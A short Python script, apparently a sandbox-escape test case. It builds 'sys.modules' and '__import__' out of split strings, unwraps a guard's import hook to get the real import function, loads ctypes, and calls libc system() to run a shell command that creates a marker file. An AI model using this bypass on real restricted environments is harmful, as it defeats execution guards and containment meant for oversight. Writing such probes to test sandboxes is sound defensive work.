# Tries: unwrap the guard's import hook (a bound method; its real import) and import ctypes with it.
# ruff: noqa
import dataclasses
from operator import attrgetter

d = "_" * 2
builtins_mod = attrgetter("sy" + "s.mod" + "ules")(dataclasses)["builtins"]
hook = attrgetter(d + "import" + d)(builtins_mod)
try:
    real = attrgetter(d + "self" + d + ".real_import")(hook)
except AttributeError:
    real = hook
ctypes = real("ctypes")
ctypes.CDLL(None).system(b"touch NEXUS_MARKER_TMP")
